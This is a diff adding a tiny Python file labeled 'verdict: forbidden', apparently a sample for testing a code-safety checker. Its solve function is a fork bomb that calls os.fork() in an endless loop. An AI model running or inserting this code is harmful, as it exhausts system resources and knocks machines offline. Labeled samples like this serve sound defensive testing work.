@@ -1,0 +1,7 @@
+# verdict: forbidden
+import os
+
+
+def solve(x):
+    while True:
+        os.fork()
